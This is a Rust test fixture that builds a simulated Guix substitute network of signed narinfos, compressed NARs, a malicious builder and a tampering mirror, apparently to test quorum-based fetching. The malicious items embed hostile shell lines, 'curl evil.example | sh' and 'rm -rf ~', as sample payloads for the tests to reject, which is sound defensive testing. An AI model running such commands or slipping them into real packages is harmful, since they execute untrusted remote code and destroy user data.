//! The Guix world the stories run in: independent builders with their own libgcrypt keys,
//! store items with real NARs, and the files of the guix-publish-style upstream each builder
//! runs, one of them malicious, plus a mirror that tampers with NAR bytes.
//!
//! | item        | signed by (honest content)  | other content signed by |
//! |-------------|-----------------------------|-------------------------|
//! | `hello`     | b1, b2                      |                         |
//! | `libfoo`    | b2, b3                      |                         |
//! | `tools`     | b3, b4                      |                         |
//! | `docs`      | b4, b5                      |                         |
//! | `big`       | b2, b3 (a few MiB)          |                         |
//! | `disputed`  | b1, b2, b3                  | m                       |
//! | `evil-only` |                             | m                       |
//!
//! Upstream `bN` carries builder bN's narinfos, `m` the malicious builder's. Their URL groups
//! (compressions, first one first) are: b1 lzip+zstd, b2 zstd+none, b3 gzip+none, b4 none,
//! b5 lzip, m zstd. With upstream priorities b1 < b2 < b3 < b4 < b5, quorate fetches `hello`
//! as lzip, `libfoo` and `big` as zstd, `tools` as gzip and `docs` uncompressed: every
//! compression Guix uses is decoded once. b3 and b5 write narinfos as `guix publish` does
//! (URL groups right after StorePath, signed); the others as bordeaux.guix.gnu.org serves
//! them (URL groups after the signature, unsigned). `mirror` carries b2's genuine signed narinfo for
//! `big` (URL groups rewritten: they are unsigned) and serves NAR bytes that differ from the
//! signed NarHash in one byte.
//!
//! Keys, NarHash and signatures are libgcrypt's (`publish.scm`); NARs are `nix-store --dump`
//! of directories made here; compression is by the zstd, flate2 and lzma-rust2 crates.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use bytes::Bytes;

use super::oracle::{KeyPair, Layout, Oracle, PublishJob};
use crate::common::{nar_hash_of, scratch_dir};

/// The store directory of every item.
pub const STORE_DIR: &str = "/gnu/store";

/// The honest builders, in upstream priority order.
pub const HONEST: [&str; 5] = ["b1", "b2", "b3", "b4", "b5"];
/// The malicious builder.
pub const MALICIOUS: &str = "m";
/// The upstream serving wrong bytes under a genuine narinfo.
pub const MIRROR: &str = "mirror";

/// The items served when two honest builders agree.
pub const AGREED: [&str; 5] = ["hello", "libfoo", "tools", "docs", "big"];

/// One store item: its path and the NAR of one version of its content.
#[derive(Clone, Debug)]
pub struct StoreItem {
    /// Full store path, `/gnu/store/<hash>-<name>`.
    pub store_path: String,
    /// The NAR (`nix-store --dump`).
    pub nar: Bytes,
    /// Where the NAR is on disk.
    pub nar_file: PathBuf,
    /// Reference basenames, as the narinfo lists them.
    pub references: Vec<String>,
    /// `Deriver:` basename.
    pub deriver: Option<String>,
}

impl StoreItem {
    /// `<hash>-<name>`.
    pub fn basename(&self) -> &str {
        self.store_path.rsplit('/').next().unwrap_or_default()
    }

    /// The 32-character hash part: the narinfo's lookup key.
    pub fn hash_part(&self) -> &str {
        &self.basename()[..32]
    }

    /// `/<hash>.narinfo`.
    pub fn narinfo_path(&self) -> String {
        format!("/{}.narinfo", self.hash_part())
    }

    /// `sha256:<nix32>` of the NAR.
    pub fn nar_hash(&self) -> String {
        nar_hash_of(&self.nar)
    }
}

/// What one upstream serves.
#[derive(Clone, Debug, Default)]
pub struct UpstreamFiles {
    /// URL path (`/<hash>.narinfo`, `/nar/zstd/<basename>`, ...) → bytes.
    pub files: BTreeMap<String, Bytes>,
    /// Item label → the narinfo text served for it.
    pub narinfos: BTreeMap<String, String>,
}

/// Everything the stories serve. Owns its directory.
pub struct World {
    /// Builder name → key pair (libgcrypt's).
    pub keys: BTreeMap<String, KeyPair>,
    /// Label → the honest version of the item (`disputed-evil` and `evil-only`: m's).
    pub items: BTreeMap<String, StoreItem>,
    /// Upstream name → its files.
    pub upstreams: BTreeMap<String, UpstreamFiles>,
    /// The tampered NAR `mirror` serves for `big`.
    pub tampered_big: Bytes,
    /// The oracle that signed it all, for the stories' own checks.
    pub oracle: Oracle,
    /// Keys, NARs, narinfos.
    dir: tempfile::TempDir,
}

/// What each upstream offers, first compression first.
fn compressions(upstream: &str) -> &'static [&'static str] {
    match upstream {
        "b1" => &["lzip", "zstd"],
        "b2" => &["zstd", "none"],
        "b3" => &["gzip", "none"],
        "b4" => &["none"],
        "b5" => &["lzip"],
        "m" => &["zstd"],
        other => panic!("no upstream {other} in the world"),
    }
}

/// Where each upstream puts its URL groups: b3 and b5 run `guix publish` (inside the signed
/// part), the others serve the bordeaux way (after the signature).
fn layout(upstream: &str) -> Layout {
    match upstream {
        "b3" | "b5" => Layout::Publish,
        _ => Layout::Herder,
    }
}

/// Which item versions each builder signs (label of the version served).
fn signed_items(builder: &str) -> &'static [&'static str] {
    match builder {
        "b1" => &["hello", "disputed"],
        "b2" => &["hello", "libfoo", "big", "disputed"],
        "b3" => &["libfoo", "tools", "big", "disputed"],
        "b4" => &["tools", "docs"],
        "b5" => &["docs"],
        "m" => &["disputed-evil", "evil-only"],
        other => panic!("no builder {other} in the world"),
    }
}

impl World {
    /// Builds the world (a few seconds: one Guile run for the keys, one to sign every
    /// narinfo, `nix-store --dump` per item).
    pub fn build(oracle: Oracle) -> World {
        let dir = scratch_dir("guix-world");
        let root = dir.path().to_path_buf();
        let builders: Vec<&str> = HONEST.iter().copied().chain([MALICIOUS]).collect();
        let keys: BTreeMap<String, KeyPair> = builders
            .iter()
            .zip(oracle.keygen(&root.join("keys"), builders.len()))
            .map(|(b, k)| (b.to_string(), k))
            .collect();

        let items = make_items(&root);
        let (upstreams, tampered_big) = publish_all(&oracle, &root, &keys, &items);

        // The harness itself: Guix accepts every narinfo an upstream serves under the key of
        // the builder who signed it (the mirror's is b2's, its URL groups being unsigned).
        let mut checks = Vec::new();
        for (upstream, files) in &upstreams {
            let signer = if upstream == MIRROR { "b2" } else { upstream };
            for (label, text) in &files.narinfos {
                checks.push((format!("{upstream}/{label}"), text, &keys[signer].public));
            }
        }
        let jobs: Vec<(&str, &Path)> = checks
            .iter()
            .map(|(_, text, key)| (text.as_str(), key.as_path()))
            .collect();
        let verdicts = oracle.verify(&root.join("harness-verify"), &jobs);
        for ((what, text, _), verdict) in checks.iter().zip(verdicts) {
            assert_eq!(verdict, "valid-signature", "harness: {what}:\n{text}");
        }
        World {
            keys,
            items,
            upstreams,
            tampered_big,
            oracle,
            dir,
        }
    }

    /// The item `label` (`hello`, …, `disputed-evil`, `evil-only`).
    pub fn item(&self, label: &str) -> &StoreItem {
        self.items
            .get(label)
            .unwrap_or_else(|| panic!("no item {label} in the world"))
    }

    /// Builder `name`'s key pair.
    pub fn key(&self, builder: &str) -> &KeyPair {
        self.keys
            .get(builder)
            .unwrap_or_else(|| panic!("no builder {builder} in the world"))
    }

    /// Upstream `name`'s files.
    pub fn upstream(&self, name: &str) -> &UpstreamFiles {
        self.upstreams
            .get(name)
            .unwrap_or_else(|| panic!("no upstream {name} in the world"))
    }

    /// The narinfo upstream `name` serves for item `label`.
    pub fn narinfo(&self, upstream: &str, label: &str) -> &str {
        self.upstream(upstream)
            .narinfos
            .get(label)
            .unwrap_or_else(|| panic!("upstream {upstream} serves no narinfo for {label}"))
    }

    /// A directory for a story's own files, inside the world's.
    pub fn scratch(&self, name: &str) -> PathBuf {
        let d = self.dir.path().join("scratch").join(name);
        std::fs::create_dir_all(&d).expect("creating a scratch directory");
        d
    }

    /// Store paths nobody has: random hash parts.
    pub fn unknown_hash_parts(&self, count: usize) -> Vec<String> {
        (0..count).map(|_| random_hash_part()).collect()
    }
}

// ---------------------------------------------------------------------------- items

/// A random valid store path hash part (32 nix32 characters).
pub fn random_hash_part() -> String {
    const NIX32: &[u8] = b"0123456789abcdfghijklmnpqrsvwxyz";
    let mut bytes = [0u8; 32];
    getrandom::getrandom(&mut bytes).expect("system randomness");
    bytes
        .iter()
        .map(|b| NIX32[usize::from(b % 32)] as char)
        .collect()
}

fn store_path(name: &str) -> String {
    format!("{STORE_DIR}/{}-{name}", random_hash_part())
}

/// How to make one item version: its tree, whose store path it takes, its references.
struct ItemSpec {
    /// The label it is known by in the world.
    label: &'static str,
    /// The label whose store path it has (`disputed-evil` has `disputed`'s).
    path_of: &'static str,
    /// The file tree; a single entry at `""` makes the item a plain file.
    tree: Vec<(&'static str, Node)>,
    /// Reference basenames.
    references: Vec<String>,
}

/// A file tree to dump: path relative to the root → what is there.
enum Node {
    File(Vec<u8>),
    Executable(Vec<u8>),
    Symlink(String),
    Dir,
}

fn make_tree(root: &Path, nodes: &[(&str, Node)]) {
    if !matches!(nodes, [("", _)]) {
        std::fs::create_dir_all(root).expect("creating a tree root");
    }
    for (rel, node) in nodes {
        let path = if rel.is_empty() {
            root.to_path_buf()
        } else {
            root.join(rel)
        };
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).expect("creating a tree directory");
        }
        match node {
            Node::File(bytes) => std::fs::write(&path, bytes).expect("writing a tree file"),
            Node::Executable(bytes) => {
                std::fs::write(&path, bytes).expect("writing a tree file");
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))
                    .expect("making a file executable");
            }
            Node::Symlink(target) => {
                std::os::unix::fs::symlink(target, &path).expect("making a symlink")
            }
            Node::Dir => std::fs::create_dir_all(&path).expect("creating a directory"),
        }
    }
}

/// `nix-store --dump path`: the NAR serialisation Nix and Guix share.
fn dump(path: &Path, nar_file: &Path) -> Bytes {
    let out = Command::new("nix-store")
        .arg("--dump")
        .arg(path)
        .output()
        .unwrap_or_else(|e| {
            panic!(
                "cannot run `nix-store --dump` ({e}): install Debian's nix-bin \
                 (scripts/test.sh does)"
            )
        });
    assert!(
        out.status.success(),
        "nix-store --dump {} failed: {}",
        path.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::write(nar_file, &out.stdout).expect("writing a NAR");
    Bytes::from(out.stdout)
}

/// Deterministic bytes that no compressor can shrink (xorshift64*).
fn noise(len: usize, mut seed: u64) -> Vec<u8> {
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        seed ^= seed >> 12;
        seed ^= seed << 25;
        seed ^= seed >> 27;
        out.extend_from_slice(&seed.wrapping_mul(0x2545_f491_4f6c_dd1d).to_le_bytes());
    }
    out.truncate(len);
    out
}

fn make_items(root: &Path) -> BTreeMap<String, StoreItem> {
    let paths: BTreeMap<&str, String> = [
        ("hello", "hello-2.12.2"),
        ("libfoo", "libfoo-1.0"),
        ("tools", "tools-3"),
        ("docs", "docs-1"),
        ("big", "big-data-1"),
        ("disputed", "disputed-0.9"),
        ("evil-only", "backdoor-1"),
    ]
    .into_iter()
    .map(|(label, name)| (label, store_path(name)))
    .collect();
    let base = |label: &str| {
        paths[label]
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .to_owned()
    };
    let (hello, libfoo) = (base("hello"), base("libfoo"));
    let mut hello_refs = vec![hello.clone(), libfoo.clone()];
    hello_refs.sort();

    let mut big_data = noise(3 << 20, 0x9e37_79b9_7f4a_7c15);
    big_data.extend(b"compressible line of the big item\n".repeat(30_000));

    let specs = vec![
        ItemSpec {
            label: "hello",
            path_of: "hello",
            tree: vec![
                (
                    "bin/hello",
                    Node::Executable(
                        format!("#!/bin/sh\nexec {STORE_DIR}/{libfoo} --greet \"$@\"\n").into(),
                    ),
                ),
                (
                    "share/doc/hello/README",
                    Node::File(b"GNU Hello, as built by an honest builder.\n".to_vec()),
                ),
                ("lib", Node::Symlink(format!("{STORE_DIR}/{libfoo}"))),
                ("share/empty", Node::Dir),
            ],
            references: hello_refs.clone(),
        },
        // A single regular file: the other kind of NAR (not a directory).
        ItemSpec {
            label: "libfoo",
            path_of: "libfoo",
            tree: vec![("", Node::File(noise(40_000, 7)))],
            references: vec![],
        },
        ItemSpec {
            label: "tools",
            path_of: "tools",
            tree: vec![
                ("bin/a", Node::Executable(b"#!/bin/sh\necho a\n".to_vec())),
                ("bin/b", Node::Executable(b"#!/bin/sh\necho b\n".to_vec())),
                ("etc/tools/conf.d/x.conf", Node::File(b"x = 1\n".to_vec())),
            ],
            references: hello_refs,
        },
        ItemSpec {
            label: "docs",
            path_of: "docs",
            tree: vec![
                (
                    "share/doc/index.txt",
                    Node::File(b"Documentation.\n".repeat(200)),
                ),
                ("share/doc/html/.keep", Node::File(Vec::new())),
            ],
            references: vec![],
        },
        ItemSpec {
            label: "big",
            path_of: "big",
            tree: vec![("share/big.bin", Node::File(big_data))],
            references: vec![],
        },
        ItemSpec {
            label: "disputed",
            path_of: "disputed",
            tree: vec![(
                "bin/tool",
                Node::Executable(b"#!/bin/sh\necho honest\n".to_vec()),
            )],
            references: vec![libfoo.clone()],
        },
        ItemSpec {
            label: "disputed-evil",
            path_of: "disputed",
            tree: vec![(
                "bin/tool",
                Node::Executable(b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
            )],
            references: vec![libfoo.clone()],
        },
        ItemSpec {
            label: "evil-only",
            path_of: "evil-only",
            tree: vec![("", Node::Executable(b"#!/bin/sh\nrm -rf ~\n".to_vec()))],
            references: vec![],
        },
    ];

    let trees = root.join("trees");
    let nars = root.join("nars");
    std::fs::create_dir_all(&nars).expect("creating the NAR directory");
    let mut items = BTreeMap::new();
    for ItemSpec {
        label,
        path_of,
        tree: nodes,
        references,
    } in specs
    {
        let tree = trees.join(label);
        make_tree(&tree, &nodes);
        let nar_file = nars.join(format!("{label}.nar"));
        let nar = dump(&tree, &nar_file);
        let store_path = paths[path_of].clone();
        let deriver = matches!(label, "hello" | "big" | "disputed").then(|| {
            let name = store_path.rsplit('/').next().unwrap_or_default();
            format!("{}-{}.drv", random_hash_part(), &name[33..])
        });
        items.insert(
            label.to_owned(),
            StoreItem {
                store_path,
                nar,
                nar_file,
                references,
                deriver,
            },
        );
    }
    // Both versions of `disputed` name the same deriver, as a malicious rebuild would.
    let deriver = items["disputed"].deriver.clone();
    if let Some(evil) = items.get_mut("disputed-evil") {
        evil.deriver = deriver;
    }
    items
}

// ---------------------------------------------------------------------------- compression

/// The NAR compressed as an upstream offers it.
pub fn compress(compression: &str, data: &[u8]) -> Vec<u8> {
    match compression {
        "zstd" => zstd::encode_all(data, 3).expect("zstd compression"),
        "gzip" => {
            let mut w = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            w.write_all(data).expect("gzip compression");
            w.finish().expect("gzip finish")
        }
        "lzip" => {
            let mut w =
                lzma_rust2::LzipWriter::new(Vec::new(), lzma_rust2::LzipOptions::with_preset(6));
            w.write_all(data).expect("lzip compression");
            w.finish().expect("lzip finish")
        }
        "none" => data.to_vec(),
        other => panic!("no encoder for {other}"),
    }
}

/// An upstream's URL path for an item's NAR in `compression` (guix publish layout).
pub fn nar_url_path(compression: &str, basename: &str) -> String {
    match compression {
        "none" => format!("/nar/{basename}"),
        c => format!("/nar/{c}/{basename}"),
    }
}

// ---------------------------------------------------------------------------- publishing

fn publish_all(
    oracle: &Oracle,
    root: &Path,
    keys: &BTreeMap<String, KeyPair>,
    items: &BTreeMap<String, StoreItem>,
) -> (BTreeMap<String, UpstreamFiles>, Bytes) {
    let mut jobs = Vec::new();
    let mut placed = Vec::new(); // (upstream, label, [(url path, file)])
    for upstream in HONEST.iter().copied().chain([MALICIOUS]) {
        let dir = root.join("published").join(upstream);
        std::fs::create_dir_all(&dir).expect("creating an upstream directory");
        for &label in signed_items(upstream) {
            let item = &items[label];
            let mut groups = Vec::new();
            let mut files = Vec::new();
            for &c in compressions(upstream) {
                let url = nar_url_path(c, item.basename());
                if c == "none" {
                    groups.push((c.to_owned(), None));
                    files.push((url, item.nar_file.clone()));
                } else {
                    let file = dir.join(format!("{label}.nar.{c}"));
                    std::fs::write(&file, compress(c, &item.nar)).expect("writing a NAR");
                    groups.push((c.to_owned(), Some(file.clone())));
                    files.push((url, file));
                }
            }
            jobs.push(PublishJob {
                key: keys[upstream].clone(),
                host: format!("{upstream}.guix.example"),
                layout: layout(upstream),
                store_path: item.store_path.clone(),
                nar_file: item.nar_file.clone(),
                references: item.references.clone(),
                deriver: item.deriver.clone(),
                system: (upstream == "b1").then(|| "x86_64-linux".to_owned()),
                groups,
                output: dir.join(format!("{}.narinfo", item.hash_part())),
            });
            placed.push((upstream, label, files));
        }
    }
    let texts = oracle.publish(&root.join("publish-jobs"), &jobs);

    let mut upstreams: BTreeMap<String, UpstreamFiles> = BTreeMap::new();
    for ((upstream, label, files), text) in placed.into_iter().zip(texts) {
        let item = &items[label];
        let up = upstreams.entry(upstream.to_owned()).or_default();
        up.files
            .insert(item.narinfo_path(), Bytes::from(text.clone().into_bytes()));
        for (url, file) in files {
            let bytes = std::fs::read(&file).expect("reading a published NAR");
            up.files.insert(url, Bytes::from(bytes));
        }
        // Keyed by the label of the version signed (m's are `disputed-evil`, `evil-only`).
        up.narinfos.insert(label.to_owned(), text);
    }

    // The mirror: b2's genuine narinfo for big (the signed part untouched), its own URL.
    let big = &items["big"];
    let genuine = &upstreams["b2"].narinfos["big"];
    let signed_end = genuine
        .find("Signature: ")
        .and_then(|at| genuine[at..].find('\n').map(|nl| at + nl + 1))
        .expect("b2's narinfo is signed");
    let mirrored = format!(
        "{}URL: nar/{}\nCompression: none\nFileSize: {}\n",
        &genuine[..signed_end],
        big.basename(),
        big.nar.len()
    );
    let mut tampered = big.nar.to_vec();
    let at = tampered.len() / 2;
    tampered[at] ^= 0x20;
    let tampered = Bytes::from(tampered);
    let mut mirror = UpstreamFiles::default();
    mirror.files.insert(
        big.narinfo_path(),
        Bytes::from(mirrored.clone().into_bytes()),
    );
    mirror
        .files
        .insert(nar_url_path("none", big.basename()), tampered.clone());
    mirror.narinfos.insert("big".to_owned(), mirrored);
    upstreams.insert(MIRROR.to_owned(), mirror);

    for up in upstreams.values_mut() {
        up.files.insert(
            "/nix-cache-info".to_owned(),
            Bytes::from_static(b"StoreDir: /gnu/store\nWantMassQuery: 0\nPriority: 100\n"),
        );
    }
    (upstreams, tampered)
}
